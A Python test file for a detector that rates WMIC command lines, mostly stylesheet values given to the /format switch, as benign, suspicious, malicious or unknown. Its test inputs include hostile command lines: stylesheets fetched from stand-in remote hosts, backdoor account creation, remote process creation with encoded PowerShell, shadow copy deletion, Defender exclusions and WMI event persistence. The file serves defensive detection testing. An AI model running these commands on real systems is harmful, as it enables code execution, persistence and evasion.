"""What a format switch's value is worth: good news only for what Windows itself brings."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.model import Alert, AssessmentKind
from runner.wmic import assess, assess_line
from runner.wmic.stylesheet import KEYWORDS, SHIPPED_FILES

BENIGN, UNKNOWN, SUSPICIOUS, MALICIOUS = (
    AssessmentKind.BENIGN,
    AssessmentKind.UNKNOWN,
    AssessmentKind.SUSPICIOUS,
    AssessmentKind.MALICIOUS,
)
WBEM = "C:\\Windows\\System32\\wbem\\"


def kind_of(value: str) -> AssessmentKind:
    return assess_line(f"wmic os get /format:{value}").assessment


@pytest.mark.parametrize("keyword", sorted(KEYWORDS | SHIPPED_FILES))
def test_built_in_keyword_in_any_case_is_benign(keyword: str) -> None:
    assert kind_of(keyword) == kind_of(keyword.upper()) == kind_of(f'"{keyword}"') == BENIGN


@pytest.mark.parametrize(
    "value",
    [
        "texttable.xsl",
        "textvaluelist.XSL",
        f'"{WBEM}en-US\\csv"',
        f'"{WBEM}en-US\\csv.xsl"',
        f'"{WBEM}zh-Hans\\htable.xsl"',
        f"{WBEM}texttable.xsl",
        '"c:/windows/SysWOW64/wbem/de-DE/hform"',
        'htable:"sortby=Name"',
        'htable:"sortby=Name":"datatype=number"',
        "csv /every:5",
        f'"{WBEM}en-US\\csv"'.replace("\\", "\\\\"),
        '"%WINDIR%\\System32\\wbem\\en-US\\csv"',
        '"%%windir%%\\System32\\wbem\\csv"',
        "%SystemRoot%\\system32\\wbem\\texttable.xsl",
        "%SystemDrive%\\Windows\\system32\\wbem\\texttable.xsl",
    ],
)
def test_stylesheet_that_windows_brings_is_benign(value: str) -> None:
    assert kind_of(value) == BENIGN


@pytest.mark.parametrize(
    "value",
    [
        "http://192.0.2.50/a.xsl",
        '"HTTPS://files.example.test/a"',
        "'ftp://u:p@files.example.test/a'",
        '" http://192.0.2.50/a"',
        "file:///C:/a.xsl",
        "http:\\\\192.0.2.50\\a.xsl",
        "http:192.0.2.50/a",
        "ht^tp://192.0.2.50/a",
        "\\\\files.example.test\\share\\a.xsl",
        "//files.example.test/share/a.xsl",
        "\\\\192.0.2.50@SSL@8443\\DavWWWRoot\\a.xsl",
        "\\\\?\\UNC\\files.example.test\\share\\a.xsl",
        "\\\\localhost\\c$\\a.xsl",
        "csv,http://192.0.2.50/a",
        '"http://192.0.2.50/a.xsl":"delimiter=;"',
        '"http://192.0.2.50/cut',
        "%TEMP%,\\\\192.0.2.50\\s\\a.xsl",
        f'"{WBEM}..\\http://192.0.2.50/a"',
    ],
)
def test_stylesheet_from_another_machine_is_malicious(value: str) -> None:
    assert kind_of(value) == MALICIOUS


@pytest.mark.parametrize(
    "value",
    [
        "evil.xsl",
        "evil",
        "table.xsl",
        "csv.xsl",
        "csv.txt",
        '" csv"',
        "csv\u00a0",
        '"C:\\Users\\Public\\csv.xsl"',
        '"C:\\Users\\Public\\wbem\\csv.xsl"',
        '"E:\\Windows\\System32\\wbem\\csv.xsl"',
        f'"{WBEM}en-US\\..\\..\\..\\Temp\\csv"',
        f'"{WBEM}en-US\\csv.xsl:stream"',
        f'"{WBEM}en-US\\other.xsl"',
        '"\\\\?\\C:\\Temp\\a.xsl"',
        "%TEMP%\\a.xsl",
        "!x!\\a.xsl",
        "csv,table",
        "htable:evil.xsl",
        'htable:"sortby=http://192.0.2.50/a"',
    ],
)
def test_stylesheet_from_elsewhere_on_the_machine_is_suspicious(value: str) -> None:
    assert kind_of(value) in (SUSPICIOUS, MALICIOUS)
    assert kind_of("csv") == BENIGN


@pytest.mark.parametrize(
    ("cmdline", "word"),
    [
        (None, "no command line"),
        ("   ", "no command line"),
        ("wmic", "from elsewhere"),
        ("notepad.exe", "another program than wmic"),
        ("net user /add backdoor x", "another program than wmic"),
        (r"cmd.exe /Q /c cd \\ 1> \\127.0.0.1\ADMIN$\__1", "another program than wmic"),
        ("wmic os get %x%", "could not be read"),
        ("wmic os get /fo:csv", "could not be read"),
        ("wmic os where (a=1 call create x", "could not be read"),
        ("wmic process where name='a' get name\" call create x", "could not be read"),
        ("wmic SHADOWCOPY /nointeractive", "could not be read"),
        ("wmic /node:WS01 os get", "other machines"),
        ("wmic /node:@hosts.txt os get", "other machines"),
        ("cmd /c wmic os get", "could not be read"),
        ("wmic product where name='a' call uninstall", "changes something"),
        ("wmic os get x call create y /format:csv", "may change something"),
        ("wmic computersystem set a=b /format:csv", "changes something"),
        ("wmic qfe list /format", "no value"),
        ("wmic os get /format:", "no value"),
        ('wmic os get /format:""', "no value"),
        ('wmic os get /format:"C:\\Users', "cut off"),
        ("wmic os get /format:csv...", "cut off"),
        (f"wmic os get {'a,' * 600}b /format:csv", "cut off"),
        ("wmic os get /format:c^sv", "carets"),
        ('cmd /c "wmic os get /format:csv"', "quoted text"),
    ],
)
def test_line_that_cannot_be_read_is_unknown_and_says_why(cmdline: str | None, word: str) -> None:
    judged = assess_line(cmdline)
    assert judged.assessment == UNKNOWN
    assert word in judged.summary


@pytest.mark.parametrize(
    "cmdline",
    [
        "wmic /namespace:\\\\root\\cimv2 path win32_tpm get * /format:list",
        'wmic /namespace:"\\\\root\\cimv2" os get /format:csv',
        'WMIC DATAFILE WHERE name="C:\\\\Temp\\\\a.txt" get LastModified /format:value',
        "wmic path Win32_PnPEntity WHERE \"DeviceID LIKE '%USB\\\\VID%'\" get /format:list",
        'wmic /output:"\\\\files.example.test\\share\\out.csv" os get /format:csv',
        "wmic process where \"commandline like '%http://%'\" get name /format:csv",
        'wmic process where name="a" get Bob\'s /format:csv',
    ],
)
def test_line_around_a_built_in_format_is_never_judged(cmdline: str) -> None:
    assert assess_line(cmdline).assessment == BENIGN


@pytest.mark.parametrize(
    "cmdline",
    [
        "wmic os get",
        "wmic path Win32_PerfFormattedData_PerfOS_System get Processes",
        "wmic path Win32_PerfFormattedData_PerfProc_Process WHERE IDProcess=4 get A, B",
        "WMIC.exe process where \"name like '%format%'\" list brief",
        "wmic timezone",
        "wmic /output:format.txt /node:localhost useraccount list full",
        "wmic /namespace:\\\\root\\cimv2 path win32_tpm get *",
        "wmic /?",
    ],
)
def test_line_that_names_no_stylesheet_and_only_reads_is_benign(cmdline: str) -> None:
    judged = assess_line(cmdline)
    assert judged.assessment == BENIGN
    assert "no format switch" in judged.summary


@pytest.mark.parametrize("beginning", ["http", "https", "HTTP"])
def test_line_cut_off_where_an_address_begins_is_suspicious(beginning: str) -> None:
    judged = assess_line(f'WMIC.exe os get /format:"{beginning}')
    assert judged.assessment == SUSPICIOUS
    assert "cut off" in judged.summary


@pytest.mark.parametrize(
    ("cmdline", "least"),
    [
        ('wmic process call create "C:\\Tools\\a.exe"', SUSPICIOUS),
        ("wmic process call create calc /format:csv", SUSPICIOUS),
        ('wmic /node:WS02 process call create "cmd /c whoami"', SUSPICIOUS),
        ('wmic /node:WS02 process call create "powershell -enc AAAA"', MALICIOUS),
        ("wmic shadowcopy delete /nointeractive", SUSPICIOUS),
        (
            'wmic /namespace:"\\\\root\\subscription" PATH ActiveScriptEventConsumer CREATE Name=a',
            SUSPICIOUS,
        ),
        (
            "wmic /namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference"
            " call Add ExclusionPath=C:\\a",
            SUSPICIOUS,
        ),
        ('wmic os get /fo:"http://192.0.2.50/a.xsl"', SUSPICIOUS),
    ],
)
def test_line_that_changes_something_grave_is_judged_by_that(
    cmdline: str, least: AssessmentKind
) -> None:
    assert assess_line(cmdline).assessment == least


@pytest.mark.parametrize(
    ("value", "score"),
    [
        ("evil.xsl", 60),
        ("table.xsl", 70),
        ('"C:\\Program Files\\App\\a.xsl"', 50),
        ('"C:\\Users\\a\\a.xsl"', 70),
        ('"C:\\Users\\Public\\a.xsl"', 80),
        ('"%TEMP%\\a.xsl"', 80),
        ('"C:\\Users\\Public\\holiday.jpg"', 95),
        (f'"{WBEM}en-US\\..\\..\\x\\csv"', 100),
        ('"%WINDIR%\\System32\\wbem\\csv"', 10),
    ],
)
def test_place_and_name_of_a_file_weigh(value: str, score: int) -> None:
    assert assess_line(f"wmic os get /format:{value}").score == score


def test_switches_that_disagree_give_the_worst() -> None:
    judged = assess_line("wmic os get /format:csv /format:evil.xsl /format:http://192.0.2.50/a")
    assert judged.assessment == MALICIOUS
    assert [reason.weight for reason in judged.reasons] == [50, 20, 0]
    assert "192.0.2.50" in judged.summary


def test_worst_switch_among_very_many_is_kept() -> None:
    many = " ".join(f"/format:a{number}" for number in range(500))
    judged = assess_line(f"wmic os get {many} /format:http://192.0.2.50/a")
    assert judged.assessment == MALICIOUS
    assert len(judged.reasons) == 20
    assert "192.0.2.50" in judged.reasons[0].text


def test_remote_stylesheet_inside_quoted_text_is_left_to_a_person() -> None:
    judged = assess_line('cmd /c "wmic os get /format:http://192.0.2.50/a"')
    assert judged.assessment == SUSPICIOUS


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            "http://u:p@Files.example.test:8080/a.xsl?b",
            [
                ("url", "http://u:p@Files.example.test:8080/a.xsl?b"),
                ("domain", "files.example.test"),
            ],
        ),
        ("http://192.0.2.50/a", [("url", "http://192.0.2.50/a"), ("address", "192.0.2.50")]),
        ("http://3221226034/a", [("url", "http://3221226034/a"), ("address", "192.0.2.50")]),
        ("http://[2001:db8::1]/a", [("url", "http://[2001:db8::1]/a"), ("address", "2001:db8::1")]),
        (
            "\\\\192.0.2.50@SSL\\s\\a",
            [("file", "\\\\192.0.2.50@SSL\\s\\a"), ("address", "192.0.2.50")],
        ),
        ("C:\\Temp\\a.xsl", [("file", "C:\\Temp\\a.xsl")]),
        ("csv", []),
    ],
)
def test_value_gives_what_a_hunt_can_look_for(value: str, expected: list[tuple[str, str]]) -> None:
    judged = assess_line(f"wmic os get /format:{value}")
    assert [(seen.type, seen.value) for seen in judged.indicators] == expected


def test_alert_without_command_line_is_unknown() -> None:
    alert = Alert(id="a", siem="siem", search="search", raw={})
    assert assess(alert).assessment == UNKNOWN


def test_reasons_name_the_event_that_they_rest_on() -> None:
    alert = Alert(
        id="a",
        siem="siem",
        search="search",
        raw={},
        cmdline="wmic os get /format:csv",
        process_guid="{1}",
    )
    assert [reason.event for reason in assess(alert).reasons] == ["{1}"]


def test_evidence_in_a_sentence_cannot_rewrite_a_terminal() -> None:
    judged = assess_line('wmic os get /format:"http://192.0.2.50/\x1b[2J\u202e' + "a" * 400 + '"')
    assert judged.summary.isprintable()
    assert len(judged.summary) < 400


@given(st.text(min_size=1))
def test_any_value_that_names_another_machine_is_malicious(tail: str) -> None:
    bare = tail.replace('"', "")
    assert kind_of(f'"http://192.0.2.50/{bare}"') == MALICIOUS
